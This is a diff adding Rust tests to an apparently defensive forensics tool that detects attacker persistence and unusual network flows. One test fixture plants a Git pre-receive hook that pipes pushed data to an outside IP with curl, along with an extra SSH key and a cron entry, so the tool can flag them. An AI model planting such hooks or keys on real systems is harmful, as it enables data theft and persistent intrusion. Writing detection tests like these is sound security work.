@@ -65,3 +65,71 @@ fn a_damaged_bundle_fails_and_a_sealed_one_is_not_written_again() {
         assert_eq!(output.status.code(), Some(1));
     }
 }
+
+/// The body of an Ed25519 key made of one letter.
+fn key(letter: &str) -> String {
+    format!("AAAAC3NzaC1lZDI1NTE5AAAAI{}", letter.repeat(43))
+}
+
+#[test]
+fn exactly_the_planted_strangers_are_found_by_the_command() {
+    let portcullis = Portcullis::new();
+    let root = root(&portcullis);
+    let hook = "root/var/opt/gitlab/gitaly/custom_hooks/pre-receive.d/policy";
+    let keys = "root/root/.ssh/authorized_keys";
+    portcullis.write(hook, b"#!/bin/sh\nexit 0\n");
+    portcullis.write(keys, format!("ssh-ed25519 {} ops\n", key("E")).as_bytes());
+    let folder = |name: &str| portcullis.data().join(name).display().to_string();
+    let collect = |out: &str| {
+        let args = ["evidence", "collect", "--keep-free-gb", "0", "--root", &root, "--out", out];
+        assert!(portcullis.run(&args).status.success());
+    };
+    collect(&folder("clean"));
+
+    // What an attacker leaves: a changed hook, another key, another entry of cron.
+    for (path, text) in [
+        (hook, "#!/bin/sh\ncurl -d @- http://203.0.113.7/ <&0\n".to_owned()),
+        (keys, format!("ssh-ed25519 {} ops\nssh-ed25519 {} mallory\n", key("E"), key("F"))),
+        ("root/etc/cron.d/logrotate2", "*/5 * * * * root /usr/local/bin/updater\n".to_owned()),
+    ] {
+        _ = std::fs::remove_file(portcullis.data().join(path));
+        portcullis.write(path, text.as_bytes());
+    }
+    collect(&folder("later"));
+
+    let (later, clean) = (folder("later"), folder("clean"));
+    let analysis = portcullis.json(&["evidence", "analyse", &later, "--earlier", &clean]);
+    let strangers = analysis["strangers"].as_array().unwrap();
+    let kinds: Vec<&str> = strangers.iter().map(|one| one["kind"].as_str().unwrap()).collect();
+    assert_eq!(kinds, ["hook", "key", "cron"], "{analysis}");
+}
+
+#[test]
+fn unusual_traffic_is_told_in_both_languages_and_an_earlier_recording_is_usual() {
+    let portcullis = Portcullis::new();
+    let line = |to: &str, port: u16| {
+        format!("2 1 eni-1 10.0.0.5 {to} 40000 {port} 6 9 900 1795238400 1795238460 ACCEPT OK\n")
+    };
+    let write = |name: &str, text: String| {
+        portcullis.write(name, text.as_bytes());
+        portcullis.data().join(name).display().to_string()
+    };
+    let before = write("before.log", line("198.51.100.25", 587));
+    let now = write("now.log", line("198.51.100.25", 587) + &line("203.0.113.7", 4444));
+
+    let report = portcullis.json(&["evidence", "flows", &now, "--earlier", &before]);
+    assert_eq!(report["findings"][0]["with"], "203.0.113.7", "{report}");
+    assert_eq!(report["findings"].as_array().unwrap().len(), 1);
+    for (lang, words) in [("en", "out 203.0.113.7:4444/tcp"), ("ja", "想定にない宛先")] {
+        let output =
+            portcullis.run(&["evidence", "flows", &now, "--earlier", &before, "--lang", lang]);
+        assert!(String::from_utf8_lossy(&output.stdout).contains(words), "{output:?}");
+        assert_eq!(output.status.code(), Some(10));
+    }
+    let usual = portcullis.data().join("usual.yml").display().to_string();
+    assert!(portcullis.run(&["evidence", "flows", &now, "--propose", &usual]).status.success());
+    let output = portcullis.run(&["evidence", "flows", &now, "--baseline", &usual]);
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    let none = portcullis.run(&["evidence", "flows", &usual]);
+    assert_eq!(none.status.code(), Some(1), "{none:?}");
+}
